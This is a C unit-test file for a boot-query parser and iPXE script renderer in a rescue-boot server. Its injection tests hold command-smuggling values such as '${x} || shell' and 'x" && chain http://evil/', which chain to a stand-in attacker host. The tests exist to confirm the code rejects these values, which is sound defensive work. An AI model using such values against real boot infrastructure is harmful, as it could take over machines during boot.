#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>
#include <errno.h>
#include <string.h>

#include "core/query.h"
#include "core/script.h"

#define N(a) (sizeof(a) / sizeof((a)[0]))

static void test_full_query(void **state)
{
	const struct qarg a[] = {
		{ "mac", "52:54:00:AB:cd:EF" }, { "ip", "10.0.2.15" }, { "netmask", "255.255.255.0" },
		{ "gateway", "10.0.2.2" }, { "dns", "10.0.2.3" }, { "uuid", "8F2B5C3A-0000-4000-8000-0123456789AB" },
		{ "serial", "SN 4711 (x)" }, { "product", "R42" }, { "manufacturer", "Acme, Inc." },
		{ "platform", "pcbios" }, { "buildarch", "x86_64" },
	};
	struct boot_query q;
	char err[256];

	assert_int_equal(boot_query_parse(a, N(a), &q, err, sizeof(err)), 0);
	assert_string_equal(q.mac, "52:54:00:ab:cd:ef");
	assert_string_equal(q.uuid, "8f2b5c3a-0000-4000-8000-0123456789ab");
	assert_string_equal(q.serial, "SN 4711 (x)");
	assert_string_equal(q.buildarch, "x86_64");
}

static void test_empty_values_are_absent(void **state)
{
	/* iPXE expands an unset ${serial} to nothing */
	const struct qarg a[] = { { "mac", "52-54-00-ab-cd-ef" }, { "serial", "" }, { "ip", "" } };
	struct boot_query q;
	char err[256];

	assert_int_equal(boot_query_parse(a, N(a), &q, err, sizeof(err)), 0);
	assert_string_equal(q.mac, "52:54:00:ab:cd:ef");
	assert_string_equal(q.serial, "");
}

static void bad(const struct qarg *a, size_t n, const char *expect)
{
	struct boot_query q;
	char err[256] = "";

	assert_int_equal(boot_query_parse(a, n, &q, err, sizeof(err)), -EINVAL);
	if (strstr(err, expect) == NULL) {
		fail_msg("'%s' lacks '%s'", err, expect);
	}
}

static void test_smbios_hex(void **state)
{
	/* "S N&x" as iPXE's ${serial:hexhyp} */
	const struct qarg a[] = { { "mac", "52:54:00:ab:cd:ef" }, { "smbios", "hex" }, { "serial", "53-20-4e-26-78" },
				  { "product", "" } };
	const struct qarg nl[] = { { "mac", "52:54:00:ab:cd:ef" }, { "smbios", "hex" }, { "serial", "78-0a-73-68" } };
	const struct qarg nul[] = { { "mac", "52:54:00:ab:cd:ef" }, { "smbios", "hex" }, { "serial", "78-00-73" } };
	const struct qarg odd[] = { { "mac", "52:54:00:ab:cd:ef" }, { "smbios", "hex" }, { "serial", "7-8" } };
	const struct qarg how[] = { { "mac", "52:54:00:ab:cd:ef" }, { "smbios", "base64" } };
	struct boot_query q;
	char err[256];

	assert_int_equal(boot_query_parse(a, N(a), &q, err, sizeof(err)), 0);
	assert_string_equal(q.serial, "S N&x");
	assert_string_equal(q.product, "");
	assert_int_equal(boot_query_parse(nl, N(nl), &q, err, sizeof(err)), -EINVAL);
	assert_int_equal(boot_query_parse(nul, N(nul), &q, err, sizeof(err)), -EINVAL);
	assert_int_equal(boot_query_parse(odd, N(odd), &q, err, sizeof(err)), -EINVAL);
	assert_int_equal(boot_query_parse(how, N(how), &q, err, sizeof(err)), -EINVAL);
	assert_non_null(strstr(err, "parameter smbios: 'base64' is not hex or plain"));
}

static void test_rejects(void **state)
{
	const struct qarg nomac[] = { { "ip", "10.0.0.1" } };
	const struct qarg badmac[] = { { "mac", "52:54:00:ab:cd" } };
	const struct qarg badip[] = { { "mac", "52:54:00:ab:cd:ef" }, { "ip", "10.0.0.256" } };
	const struct qarg octal[] = { { "mac", "52:54:00:ab:cd:ef" }, { "ip", "010.0.0.1" } };
	const struct qarg twice[] = { { "mac", "52:54:00:ab:cd:ef" }, { "mac", "52:54:00:ab:cd:ee" } };
	const struct qarg unknown[] = { { "mac", "52:54:00:ab:cd:ef" }, { "cmd", "shell" } };
	const struct qarg nl[] = { { "mac", "52:54:00:ab:cd:ef" }, { "serial", "x\nshell" } };
	const struct qarg high[] = { { "mac", "52:54:00:ab:cd:ef" }, { "product", "caf\xc3\xa9" } };
	const struct qarg longs[] = { { "mac", "52:54:00:ab:cd:ef" },
				      { "serial", "0123456789012345678901234567890123456789012345678901234567890123456789" } };
	const struct qarg uuid[] = { { "mac", "52:54:00:ab:cd:ef" }, { "uuid", "8f2b5c3a-0000-4000-8000-0123456789ag" } };
	const struct qarg plat[] = { { "mac", "52:54:00:ab:cd:ef" }, { "platform", "EFI x" } };

	bad(nomac, N(nomac), "parameter mac is missing");
	bad(badmac, N(badmac), "parameter mac: '52:54:00:ab:cd' is not a MAC address");
	bad(badip, N(badip), "parameter ip: '10.0.0.256' is not an IPv4 address");
	bad(octal, N(octal), "parameter ip: '010.0.0.1'");
	bad(twice, N(twice), "parameter mac given twice");
	bad(unknown, N(unknown), "unknown parameter 'cmd'");
	bad(nl, N(nl), "parameter serial: 'x?shell' is not printable ASCII");
	bad(high, N(high), "parameter product");
	bad(longs, N(longs), "parameter serial");
	bad(uuid, N(uuid), "parameter uuid");
	bad(plat, N(plat), "parameter platform");
}

static const struct render_ctx *ctx(struct boot_query *q, const char *policy)
{
	static struct render_ctx c;

	memset(&c, 0, sizeof(c));
	c.q = q;
	c.policy = policy;
	c.public_url = "http://10.0.2.2:8080";
	c.payload_url = "http://10.0.2.2:8080/payload";
	c.token = "AbCdEfGhIjKlMnOpQrStUvWxYz012345";
	c.extra_args = "console=ttyS0,115200n8 panic=-1";
	c.heartbeat = 30;
	c.source_ip = "10.0.2.15";
	return &c;
}

static int lines(const char *s)
{
	int n = 0;

	for (; *s; s++) {
		n += *s == '\n';
	}
	return n;
}

static void test_render_rescue(void **state)
{
	const struct qarg a[] = { { "mac", "52:54:00:12:34:56" }, { "ip", "10.0.2.15" },
				  { "netmask", "255.255.255.0" }, { "gateway", "10.0.2.2" } };
	struct boot_query q;
	char out[4096], err[256];

	assert_int_equal(boot_query_parse(a, N(a), &q, err, sizeof(err)), 0);
	assert_true(script_render(DECIDE_RESCUE, ctx(&q, "rescue"), out, sizeof(out), err, sizeof(err)) > 0);
	assert_non_null(strstr(out, "#!ipxe\n"));
	assert_non_null(strstr(out, "kernel http://10.0.2.2:8080/payload/bzImage initrd=initramfs.cpio.xz "
				    "console=ttyS0,115200n8 panic=-1 BOOTIF=01-52-54-00-12-34-56 "
				    "ip=10.0.2.15::10.0.2.2:255.255.255.0:::: lifeboat.ip6=auto lifeboat.server=http://10.0.2.2:8080 "
				    "lifeboat.token=AbCdEfGhIjKlMnOpQrStUvWxYz012345 lifeboat.bound=10.0.2.15 "
				    "lifeboat.keys=http://10.0.2.2:8080/api/v1/keys/52:54:00:12:34:56 "
				    "lifeboat.heartbeat=30 lifeboat.toolbox=http://10.0.2.2:8080/payload/toolbox.squashfs "
				    "|| goto failed\n"));
	assert_non_null(strstr(out, "initrd http://10.0.2.2:8080/payload/initramfs.cpio.xz || goto failed\n"));
	assert_non_null(strstr(out, "\nexit 1\n"));
	assert_int_equal(lines(out), 8);
	/* signatures next to the payload: both images verified before boot */
	{
		struct render_ctx c = *ctx(&q, "rescue");

		c.signed_payload = 1;
		assert_true(script_render(DECIDE_RESCUE, &c, out, sizeof(out), err, sizeof(err)) > 0);
		assert_non_null(strstr(out, "initrd http://10.0.2.2:8080/payload/initramfs.cpio.xz || goto failed\n"
					    "imgverify bzImage http://10.0.2.2:8080/payload/bzImage.sig || goto failed\n"
					    "imgverify initramfs.cpio.xz http://10.0.2.2:8080/payload/initramfs.cpio.xz.sig"
					    " || goto failed\nboot || goto failed\n"));
	}
}

static void test_render_normal_and_mismatch(void **state)
{
	const struct qarg a[] = { { "mac", "52:54:00:12:34:56" }, { "ip", "10.0.2.15" } };
	struct boot_query q;
	char out[4096], err[256];

	assert_int_equal(boot_query_parse(a, N(a), &q, err, sizeof(err)), 0);
	assert_true(script_render(DECIDE_NORMAL, ctx(&q, "normal"), out, sizeof(out), err, sizeof(err)) > 0);
	assert_string_equal(out, "#!ipxe\necho Lifeboat: 52:54:00:12:34:56 has policy normal: booting from the next device\nexit 0\n");
	assert_true(script_render(DECIDE_IP_MISMATCH, ctx(&q, "rescue"), out, sizeof(out), err, sizeof(err)) > 0);
	assert_non_null(strstr(out, "the request came from 10.0.2.15 but iPXE says ip=10.0.2.15"));
	assert_non_null(strstr(out, "\nexit 0\n"));
	assert_null(strstr(out, "kernel"));
}

/* Anything that is not whitelisted cannot reach a script: not even values
 * that passed their own parser (an SMBIOS string such as "${x} || shell"
 * is printable, so it is simply never written into a script). */
static void test_ipv6_query_and_script(void **state)
{
	const struct qarg a[] = { { "mac", "52:54:00:12:34:56" }, { "ip", "" }, { "ip6", "2001:DB8:0:0::0:10" },
				  { "len6", "64" }, { "gateway6", "fe80::1" } };
	const struct qarg ll[] = { { "mac", "52:54:00:12:34:56" }, { "ip6", "fe80::5054:ff:fe12:3456" },
				   { "len6", "64" } };
	const struct qarg zone[] = { { "mac", "52:54:00:12:34:56" }, { "ip6", "fe80::1%net0" } };
	const struct qarg mapped[] = { { "mac", "52:54:00:12:34:56" }, { "ip6", "::ffff:10.0.0.1" } };
	const struct qarg v4in6[] = { { "mac", "52:54:00:12:34:56" }, { "ip", "2001:db8::1" } };
	const struct qarg brack[] = { { "mac", "52:54:00:12:34:56" }, { "ip6", "[2001:db8::1]" } };
	const struct qarg len0[] = { { "mac", "52:54:00:12:34:56" }, { "len6", "0" } };
	const struct qarg len129[] = { { "mac", "52:54:00:12:34:56" }, { "len6", "129" } };
	const struct qarg len064[] = { { "mac", "52:54:00:12:34:56" }, { "len6", "064" } };
	struct boot_query q;
	struct render_ctx c;
	char out[4096], err[256];

	assert_int_equal(boot_query_parse(a, N(a), &q, err, sizeof(err)), 0);
	/* canonical text: compared with the peer's address as the HTTP layer writes it */
	assert_string_equal(q.ip6, "2001:db8::10");
	assert_int_equal(q.len6, 64);
	assert_string_equal(boot_claimed_address(&q, "2001:db8::10"), "2001:db8::10");
	assert_string_equal(boot_claimed_address(&q, "10.0.0.1"), "");
	c = *ctx(&q, "rescue");
	c.public_url = "http://[2001:db8::1]:8080";
	c.payload_url = "http://[2001:db8::1]:8080/payload";
	assert_true(script_render(DECIDE_RESCUE, &c, out, sizeof(out), err, sizeof(err)) > 0);
	assert_non_null(strstr(out, "kernel http://[2001:db8::1]:8080/payload/bzImage "));
	assert_non_null(strstr(out, " ip=dhcp lifeboat.ip6=2001:db8::10/64,fe80::1 lifeboat.server=http://[2001:db8::1]:8080 "));
	assert_non_null(strstr(out, "initrd http://[2001:db8::1]:8080/payload/initramfs.cpio.xz || goto failed\n"));
	c.source_ip = "2001:db8::10";
	assert_true(script_render(DECIDE_RESCUE, &c, out, sizeof(out), err, sizeof(err)) > 0);
	assert_non_null(strstr(out, " lifeboat.bound=2001:db8::10 "));
	c.source_ip = "2001:db8::99";
	assert_true(script_render(DECIDE_IP_MISMATCH, &c, out, sizeof(out), err, sizeof(err)) > 0);
	assert_non_null(strstr(out, "the request came from 2001:db8::99 but iPXE says ip6=2001:db8::10"));
	/* only a link-local address: the agent configures itself */
	assert_int_equal(boot_query_parse(ll, N(ll), &q, err, sizeof(err)), 0);
	assert_true(script_render(DECIDE_RESCUE, ctx(&q, "rescue"), out, sizeof(out), err, sizeof(err)) > 0);
	assert_non_null(strstr(out, " lifeboat.ip6=auto "));
	bad(zone, N(zone), "parameter ip6: 'fe80::1%net0' is not an IPv6 address");
	bad(mapped, N(mapped), "parameter ip6");
	bad(v4in6, N(v4in6), "parameter ip: '2001:db8::1' is not an IPv4 address");
	bad(brack, N(brack), "parameter ip6");
	bad(len0, N(len0), "parameter len6: '0' is not a prefix length 1-128");
	bad(len129, N(len129), "parameter len6");
	bad(len064, N(len064), "parameter len6");
	/* iPXE formats len6 as an int8: a /128 arrives as -128 (its uint8 would be hex) */
	{
		const struct qarg m128[] = { { "mac", "52:54:00:12:34:56" }, { "len6", "-128" } };
		const struct qarg m64[] = { { "mac", "52:54:00:12:34:56" }, { "len6", "-64" } };

		assert_int_equal(boot_query_parse(m128, N(m128), &q, err, sizeof(err)), 0);
		assert_int_equal(q.len6, 128);
		bad(m64, N(m64), "parameter len6");
	}
	/* the chain script asks an iPXE with IPv6 for its address; the
	 * brackets of an IPv6 URL may go into a script, nothing else new */
	assert_true(script_render_chain("http://[2001:db8::1]:8080", out, sizeof(out), err, sizeof(err)) > 0);
	assert_non_null(strstr(out, "chain http://[2001:db8::1]:8080/boot.ipxe?mac=${netX/mac}&ip=${netX/ip}"));
	assert_non_null(strstr(out, "&ip6=${netX/ip6}&len6=${netX/len6}&gateway6=${netX/gateway6}&"));
	assert_int_equal(ipxe_safe_word("http://[2001:db8::1]:8080"), 1);
	assert_int_equal(ipxe_safe_word("http://[fe80::1%net0]:8080"), 1); /* % is percent-encoding's */
	assert_int_equal(ipxe_safe_word("a{b}"), 0);
}

/* The answer while the database does not answer: iPXE waits, then asks
 * boot.ipxe again with the same identity, replacing the script (so an
 * hour of waiting nests nothing), and never boots on by itself. */
static void test_render_wait(void **state)
{
	char out[4096], err[256];
	const char *chain = NULL, *line = NULL;

	(void)state;
	assert_true(script_render_wait("http://10.0.0.1:8080", "52:54:00:12:34:56", 10, out, sizeof(out), err,
				       sizeof(err)) > 0);
	assert_non_null(strstr(out, ":wait\nsleep 10 || goto cancelled\nchain --replace http://10.0.0.1:8080/boot.ipxe?"
				    "mac=${netX/mac}&ip=${netX/ip}"));
	line = strstr(out, "chain --replace");
	assert_non_null(line);
	assert_non_null(strstr(line, "&buildarch=${buildarch} || goto wait\n:cancelled\n"));
	/* the same request as /chain.ipxe's */
	assert_true(script_render_chain("http://10.0.0.1:8080", out + 2048, 2048, err, sizeof(err)) > 0);
	chain = strstr(out + 2048, "chain ") + 6;
	assert_int_equal(strncmp(line + strlen("chain --replace "), chain, strcspn(chain, " ")), 0);
	/* the only way out is the admin at the console */
	assert_null(strstr(out, "exit 1"));
	assert_int_equal(script_render_wait("http://x/ && shell", "52:54:00:12:34:56", 10, out, sizeof(out), err,
					    sizeof(err)), -EINVAL);
	assert_int_equal(script_render_wait("http://x", "52:54:00:12:34:56", 10, out, 64, err, sizeof(err)), -ENOSPC);
}

static void test_injection(void **state)
{
	const struct qarg a[] = { { "mac", "52:54:00:12:34:56" }, { "serial", "${x} || shell" },
				  { "product", "x\" && chain http://evil/" } };
	struct boot_query q;
	struct render_ctx c;
	char out[4096], err[256];

	assert_int_equal(boot_query_parse(a, N(a), &q, err, sizeof(err)), 0);
	assert_true(script_render(DECIDE_RESCUE, ctx(&q, "rescue"), out, sizeof(out), err, sizeof(err)) > 0);
	assert_null(strstr(out, "shell"));
	assert_null(strstr(out, "evil"));
	assert_null(strstr(out, "${"));
	c = *ctx(&q, "rescue");
	c.extra_args = "quiet\nshell";
	assert_int_equal(script_render(DECIDE_RESCUE, &c, out, sizeof(out), err, sizeof(err)), -EINVAL);
	assert_non_null(strstr(err, "kernel arguments"));
	c = *ctx(&q, "rescue");
	c.public_url = "http://h/${net0/ip}";
	assert_int_equal(script_render(DECIDE_RESCUE, &c, out, sizeof(out), err, sizeof(err)), -EINVAL);
	c = *ctx(&q, "rescue");
	c.token = "a b";
	assert_int_equal(script_render(DECIDE_RESCUE, &c, out, sizeof(out), err, sizeof(err)), -EINVAL);
	assert_int_equal(ipxe_safe_word("http://10.0.2.2:8080/payload"), 1);
	assert_int_equal(ipxe_safe_word("a#b"), 0);
	assert_int_equal(ipxe_safe_word("a\"b"), 0);
	assert_int_equal(ipxe_safe_word("a$b"), 0);
	assert_int_equal(ipxe_safe_word(""), 0);
	assert_int_equal(ipxe_safe_words("a b"), 1);
	assert_int_equal(ipxe_safe_words("a\tb"), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_full_query),
		cmocka_unit_test(test_empty_values_are_absent),
		cmocka_unit_test(test_smbios_hex),
		cmocka_unit_test(test_rejects),
		cmocka_unit_test(test_render_rescue),
		cmocka_unit_test(test_render_normal_and_mismatch),
		cmocka_unit_test(test_render_wait),
		cmocka_unit_test(test_injection),
		cmocka_unit_test(test_ipv6_query_and_script),
	};
	return cmocka_run_group_tests_name("query", tests, NULL, NULL);
}
